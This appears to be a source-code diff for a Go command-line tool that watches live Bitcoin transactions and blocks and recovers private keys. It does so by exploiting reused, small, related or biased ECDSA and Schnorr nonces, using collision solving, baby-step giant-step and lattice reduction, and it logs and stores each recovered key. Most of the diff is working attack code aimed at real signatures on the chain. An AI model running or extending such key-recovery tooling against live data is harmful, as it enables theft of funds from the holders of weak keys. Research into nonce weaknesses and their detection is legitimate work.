+		log.WithFields(log.Fields{
+			"version": migration.Version,
+			"name":    migration.Name,
+		}).Infoln("Applied migration")
+	}
+	if err != nil {
+		return err
+	}
+	version, err := db.SchemaVersion()
+	if err != nil {
+		return err
+	}
+	log.WithFields(log.Fields{
+		"version": version,
+		"applied": len(applied),
+	}).Infoln("Database schema is up to date")
+	return nil
+}
+
+func GetSHPairBucketForContext(c *cli.Context, ds provider.DataProvider) *sighash.SHPairBucket {
+	bucket := sighash.NewSHPairBucket(ds)
+	if c.Bool("engine") {
+		bucket.Mode = sighash.ModeEngine
+	}
+	bucket.Strict = c.Bool("strict")
+	return bucket
+}
+
 func NonceReuseRealtime(c *cli.Context) error {
 	var ds provider.DataProvider
 
@@ -186,17 +1028,20 @@ func NonceReuseRealtime(c *cli.Context) error {
 	}
 
 	// Init storage
-	var db storage.Storage
-	if c.Bool("db") {
-		st, err := storage.NewPostgresStorage("localhost", 5432,
-			"postgres", "postgres", "postgres")
-		if err != nil {
-			return err
-		}
-		log.Infof("DB enabled!")
-		db = st
-	} else {
-		db = storage.NewNullStorage()
+	db, err := GetDBForContext(c)
+	if err != nil {
+		return err
+	}
+
+	index, err := GetIndexForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+
+	smallNonceSearch, err := GetSmallNonceSearchForContext(c)
+	if err != nil {
+		return err
 	}
 
 	// Init the realtime streamer
@@ -204,12 +1049,81 @@ func NonceReuseRealtime(c *cli.Context) error {
 	if len(addr) == 0 {
 		addr = "tcp://127.0.0.1:28333"
 	}
-	streamer, err := realtime.NewBtcdZmqStreamer(addr, []string{"rawtx"})
+	streamer, err := realtime.NewBtcdZmqStreamer(addr, []string{"rawtx", "rawblock"})
 	if err != nil {
 		return err
 	}
 	defer streamer.Close()
-	log.Infof("Connected to ZMQ at %s, subscribed to 'rawtx'", addr)
+	log.Infof("Connected to ZMQ at %s, subscribed to 'rawtx' and 'rawblock'", addr)
+
+	// Every signature is checked against those of the window, from both the
+	// mempool and blocks, keys being reported as soon as a reuse shows up
+	solveBucket := GetSHPairBucketForContext(c, ds)
+	solveBucket.Window = sighash.Window{
+		MaxPairs: c.Int("window-size"),
+		MaxAge:   c.Duration("window-age"),
+	}
+	reportedKeys := make(map[string]bool)
+	reportedNonces := make(map[string]bool)
+	reportedReuse := 0
+	recovered := false
+	solveBucket.OnRecovery = func(rec *sighash.Recovery) {
+		reportedKeys[hex.EncodeToString(rec.Key.Serialize())] = true
+		recovered = true
+		LogRecovery(rec, nil)
+		RecordRecoveries([]*sighash.Recovery{rec}, db, index)
+	}
+
+	addTx := func(tx *wire.MsgTx, location *sighash.TxLocation) {
+		txid := tx.TxHash()
+		_, errMap := solveBucket.AddMinedTx(tx, location)
+		LogStreamErrMap(txid.String(), errMap)
+
+		pairs := solveBucket.PairsForTx(txid)
+		for _, pair := range pairs {
+			if err := db.PutSignature(EntryFromPair(pair)); err != nil {
+				log.Fatalln(err.Error())
+			}
+		}
+		if err := CollideWithIndex(index, solveBucket, pairs); err != nil {
+			log.Fatalln(err.Error())
+		}
+		txBucket := sighash.NewSHPairBucket(nil)
+		txBucket.Pairs = pairs
+		LogSmallNonces(txBucket.SolveSmallNonces(smallNonceSearch))
+	}
+
+	// New keys and nonces may propagate to other signatures in the window,
+	// which is only worth going through once something was recovered
+	propagate := func() {
+		if recovered {
+			recovered = false
+			solutions, nonces := solveBucket.Solve()
+			solutions, nonces, err := PropagateFromStorage(solveBucket, solutions, nonces, db, index)
+			if err != nil {
+				log.Fatalln(err.Error())
+			}
+			for _, rec := range solutions {
+				id := hex.EncodeToString(rec.Key.Serialize())
+				if !reportedKeys[id] {
+					reportedKeys[id] = true
+					LogRecovery(rec, nil)
+					RecordRecoveries([]*sighash.Recovery{rec}, db, index)
+				}
+			}
+			fresh := make([]*sighash.RecoveredNonce, 0)
+			for _, nonce := range nonces {
+				id := string(nonce.R.Bytes())
+				if !reportedNonces[id] {
+					reportedNonces[id] = true
+					fresh = append(fresh, nonce)
+				}
+			}
+			LogRecoveredNonces(fresh)
+		}
+		LogUnexploitableReuse(solveBucket.UnexploitableReuse[reportedReuse:])
+		reportedReuse = len(solveBucket.UnexploitableReuse)
+	}
 
 	// Stream
 	return streamer.Stream(func(msgType string, msgBody []byte) {
@@ -223,47 +1137,10 @@ func NonceReuseRealtime(c *cli.Context) error {
 				}).Errorln("Failed to parse txn")
 				return
 			}
-
-			txid := tx.Hash().String()
-			solveBucket := sighash.NewSHPairBucket(ds)
-			sigCount, errMap := solveBucket.AddTx(tx.MsgTx())
-			for inputIdx, err := range errMap {
-				switch err {
-				case sighash.WarnWitnessSkip:
-					log.WithFields(log.Fields{
-						"err":      err,
-						"inputIdx": inputIdx,
-						"tx":       txid,
-					}).Warnln("Skipped input due to txwitness")
-				default:
-					log.WithFields(log.Fields{
-						"err":      err,
-						"inputIdx": inputIdx,
-						"tx":       txid,
-					}).Warnln("Skipped input due to critical error")
-				}
-			}
-
-			for _, pair := range solveBucket.Pairs {
-				err := db.PutEntry(txid, pair.PublicKey, pair.Z, pair.R.Bytes(), pair.S.Bytes())
-				if err != nil {
-					log.Fatalln(err.Error())
-				}
-			}
-
-			if sigCount >= 2 {
-				solutions := solveBucket.Solve()
-				log.Println("Extracted", len(solutions), "private key(s)")
-				for _, priv := range solutions {
-					serialized := priv.Serialize()
-					log.WithField("hexEncoded", hex.EncodeToString(serialized)).
-						Info("Found private key")
-				}
-			}
+			addTx(tx.MsgTx(), nil)
+			propagate()
 
 		case "rawblock":
-			// Just display the block -- we don't subscribe
-			// to this topic anymore anyway.
 			block, err := btcutil.NewBlockFromBytes(msgBody)
 			if err != nil {
 				log.WithFields(log.Fields{
@@ -272,15 +1149,75 @@ func NonceReuseRealtime(c *cli.Context) error {
 				}).Errorln("Failed to parse block")
 				return
 			}
+
+			// Transactions seen in the mempool are already in the window,
+			// and the coinbase has no signatures
+			locations := sighash.BlockTxLocations(block.MsgBlock())
+			added := 0
+			for i, tx := range block.MsgBlock().Transactions {
+				if i == 0 || solveBucket.HasTx(tx.TxHash()) {
+					continue
+				}
+				addTx(tx, locations[i])
+				added++
+			}
+			propagate()
+			solveBucket.Evict()
+			if index != nil {
+				LogIndexStats(index)
+				SaveIndexFilter(c, index)
+			}
 			log.WithFields(log.Fields{
-				"blockHash": block.Hash().String(),
+				"blockHash":     block.Hash().String(),
+				"newTxns":       added,
+				"windowSHPairs": solveBucket.Len(),
+				"evicted":       solveBucket.Evicted,
 			}).Infoln("New block")
+			LogExtractionCounts(solveBucket)
 		default:
 			log.Fatalf("Receive message with unknown type from ZMQ: %s", msgType)
 		}
 	})
 }
 
+// LogStreamErrMap logs why inputs of a streamed transaction were skipped.
+func LogStreamErrMap(txid string, errMap map[int]error) {
+	for inputIdx, err := range errMap {
+		if _, ok := err.(*sighash.WarnVerifySkip); ok {
+			log.WithFields(log.Fields{
+				"err":      err,
+				"inputIdx": inputIdx,
+				"tx":       txid,
+			}).Warnln("Skipped input failing verification")
+			continue
+		}
+		switch err {
+		case sighash.WarnWitnessSkip, sighash.WarnTemplateSkip:
+			log.WithFields(log.Fields{
+				"err":      err,
+				"inputIdx": inputIdx,
+				"tx":       txid,
+			}).Warnln("Skipped unsupported input")
+		default:
+			log.WithFields(log.Fields{
+				"err":      err,
+				"inputIdx": inputIdx,
+				"tx":       txid,
+			}).Warnln("Skipped input due to critical error")
+		}
+	}
+}
+
+// joinFlags concatenates the flags of a command with the sets of flags it
+// shares with others.
+func joinFlags(sets ...[]cli.Flag) []cli.Flag {
+	flags := make([]cli.Flag, 0)
+	for _, set := range sets {
+		flags = append(flags, set...)
+	}
+	return flags
+}
+
 func main() {
 	app := cli.NewApp()
 	app.Flags = []cli.Flag{
@@ -301,7 +1238,127 @@ func main() {
 			Usage: "specify the bitcoind instance with which nonced will interact",
 		},
 	}
+	hnpFlags := []cli.Flag{
+		cli.StringFlag{
+			Name:  "model",
+			Usage: "nonce bias model, one of msb (leading zero bits), lsb (known trailing bits) or prefix (known leading bits)",
+			Value: "msb",
+		},
+		cli.IntFlag{
+			Name:  "bits",
+			Usage: "number of biased bits per nonce",
+			Value: 8,
+		},
+		cli.IntFlag{
+			Name:  "blocksize",
+			Usage: "BKZ block size, LLL only if 2 or less",
+		},
+		cli.IntFlag{
+			Name:  "tours",
+			Usage: "maximum number of BKZ tours",
+			Value: 8,
+		},
+	}
+	extractFlags := []cli.Flag{
+		cli.BoolFlag{
+			Name:  "engine",
+			Usage: "locate signatures by executing scripts rather than matching templates, except for Taproot spends",
+		},
+		cli.BoolFlag{
+			Name:  "strict",
+			Usage: "verify every extracted signature, rejecting those that do not verify",
+		},
+	}
+	dbFlags := []cli.Flag{
+		cli.BoolFlag{
+			Name:  "db",
+			Usage: "use db",
+		},
+	}
+	indexFlags := []cli.Flag{
+		cli.StringFlag{
+			Name:  "index",
+			Usage: "path of an embedded signature index kept across runs, checked for past signatures sharing R values",
+		},
+		cli.StringFlag{
+			Name:  "filter",
+			Usage: "path of a bloom filter of the R values in the index, only looking them up on a hit",
+		},
+		cli.Int64Flag{
+			Name:  "filter-size",
+			Usage: "number of R values the filter is sized for when it is built",
+			Value: 100000000,
+		},
+		cli.Float64Flag{
+			Name:  "filter-fp",
+			Usage: "false positive rate the filter is sized for when it is built",
+			Value: 0.001,
+		},
+		cli.BoolFlag{
+			Name:  "filter-rebuild",
+			Usage: "rebuild the filter from the index rather than loading it",
+		},
+	}
+	smallNonceFlags := []cli.Flag{
+		cli.IntFlag{
+			Name:  "small-nonce-bits",
+			Usage: "search for nonces below 2^bits with baby-step giant-step, 0 to only check known bad nonces",
+		},
+		cli.StringFlag{
+			Name:  "small-nonce-table",
+			Usage: "path of the baby step table, computed there if missing and reused across runs",
+		},
+		cli.IntFlag{
+			Name:  "small-nonce-table-size",
+			Usage: "number of baby steps in the table",
+			Value: 1 << 20,
+		},
+	}
+	relatedFlags := []cli.Flag{
+		cli.Int64Flag{
+			Name:  "related-max-a",
+			Usage: "search for nonces related by k2 = a*k1 + b with |a| up to this, 0 to disable",
+		},
+		cli.Int64Flag{
+			Name:  "related-max-b",
+			Usage: "bound on |b| when searching for related nonces",
+			Value: 1024,
+		},
+		cli.IntFlag{
+			Name:  "recurrence-max-degree",
+			Usage: "search for nonces following a polynomial recurrence up to this degree, 0 to disable",
+		},
+	}
 	app.Commands = []cli.Command{
+		{
+			Name:  "db",
+			Usage: "manage the database used with --db",
+			Subcommands: []cli.Command{
+				{
+					Name:   "migrate",
+					Usage:  "create or upgrade the database schema",
+					Action: MigrateDB,
+				},
+			},
+		},
+		{
+			Name:  "stored",
+			Usage: "work off the signatures and keys kept with --db or --index",
+			Subcommands: []cli.Command{
+				{
+					Name:   "collisions",
+					Usage:  "solves the stored signatures sharing R values",
+					Flags:  joinFlags(dbFlags, indexFlags),
+					Action: SolveStoredCollisions,
+				},
+				{
+					Name:   "recoveries",
+					Usage:  "lists the recorded private keys",
+					Flags:  joinFlags(dbFlags, indexFlags),
+					Action: ListStoredRecoveries,
+				},
+			},
+		},
 		{
 			Name:  "query",
 			Usage: "custom queries for diagnostic usage",
@@ -315,47 +1372,125 @@ func main() {
 		},
 		{
 			Name:  "nonce",
-			Usage: "extract private key from nonce reuse in ECDSA signatures",
+			Usage: "extract private key from nonce reuse in ECDSA and Schnorr signatures",
 			Subcommands: []cli.Command{
 				{
 					Name:  "stream",
 					Usage: "streams from bitcoind via ZMQ and performs realtime analysis",
-					Flags: []cli.Flag{
+					Flags: joinFlags([]cli.Flag{
 						cli.StringFlag{
 							Name:  "connstring",
 							Usage: "connstring for the ZMQ publisher source",
 						},
-						cli.BoolFlag{
-							Name:  "db",
-							Usage: "use db",
+						cli.IntFlag{
+							Name:  "window-size",
+							Usage: "number of recent signatures new ones are checked against, 0 for no limit",
+							Value: 1000000,
 						},
-					},
+						cli.DurationFlag{
+							Name:  "window-age",
+							Usage: "how long signatures are checked against, 0 for no limit",
+							Value: 72 * time.Hour,
+						},
+					}, extractFlags, dbFlags, indexFlags, smallNonceFlags),
 					Action: NonceReuseRealtime,
 				},
 				{
 					Name:  "tx",
 					Usage: "extracts from a single transaction",
-					Flags: []cli.Flag{
+					Flags: joinFlags([]cli.Flag{
 						cli.StringFlag{
 							Name:  "id",
 							Usage: "hex-encoded transaction id",
 						},
-					},
+					}, relatedFlags, extractFlags, dbFlags, indexFlags, smallNonceFlags),
 					Action: NonceReuseFromTx,
 				},
 				{
 					Name:  "block",
 					Usage: "extracts from transactions in the block and their prevOuts",
-					Flags: []cli.Flag{
+					Flags: joinFlags([]cli.Flag{
 						cli.StringFlag{
 							Name:  "id",
 							Usage: "hex-encoded block hash",
 						},
-					},
+						cli.IntFlag{
+							Name:  "workers",
+							Usage: "number of transactions extracted concurrently",
+							Value: 4,
+						},
+					}, relatedFlags, extractFlags, dbFlags, indexFlags, smallNonceFlags),
 					Action: NonceReuseFromBlockTxs,
 				},
 			},
 		},
+		{
+			Name:  "analyze",
+			Usage: "rank pubkeys by how biased their nonces look, without recovering anything",
+			Subcommands: []cli.Command{
+				{
+					Name:  "block",
+					Usage: "writes a JSON report on the signatures in the given blocks",
+					Flags: joinFlags([]cli.Flag{
+						cli.StringSliceFlag{
+							Name:  "id",
+							Usage: "hex-encoded block hash, may be repeated",
+						},
+						cli.IntFlag{
+							Name:  "min-sigs",
+							Usage: "only analyze pubkeys with at least this many signatures",
+							Value: 2,
+						},
+						cli.StringFlag{
+							Name:  "out",
+							Usage: "path to write the report to, stdout if unset",
+						},
+					}, extractFlags, dbFlags, indexFlags),
+					Action: AnalyzeBiasFromBlocks,
+				},
+			},
+		},
+		{
+			Name:  "lattice",
+			Usage: "extract private key from biased nonces by lattice reduction",
+			Subcommands: []cli.Command{
+				{
+					Name:  "block",
+					Usage: "solves for the key behind the signatures of a pubkey in the given blocks",
+					Flags: joinFlags([]cli.Flag{
+						cli.StringSliceFlag{
+							Name:  "id",
+							Usage: "hex-encoded block hash, may be repeated",
+						},
+						cli.StringFlag{
+							Name:  "pubkey",
+							Usage: "hex-encoded public key whose signatures to use",
+						},
+						cli.StringSliceFlag{
+							Name:  "known",
+							Usage: "hex-encoded known nonce bits, one per signature in order",
+						},
+					}, extractFlags, dbFlags, indexFlags, hnpFlags),
+					Action: HNPFromBlocks,
+				},
+				{
+					Name:  "synthetic",
+					Usage: "runs the solver on generated biased signatures to show recovery thresholds",
+					Flags: joinFlags([]cli.Flag{
+						cli.IntSliceFlag{
+							Name:  "sigs",
+							Usage: "number of signatures per trial, may be repeated",
+						},
+						cli.IntFlag{
+							Name:  "trials",
+							Usage: "number of trials per signature count",
+							Value: 10,
+						},
+					}, hnpFlags),
+					Action: HNPSynthetic,
+				},
+			},
+		},
 	}
 
 	err := app.Run(os.Args)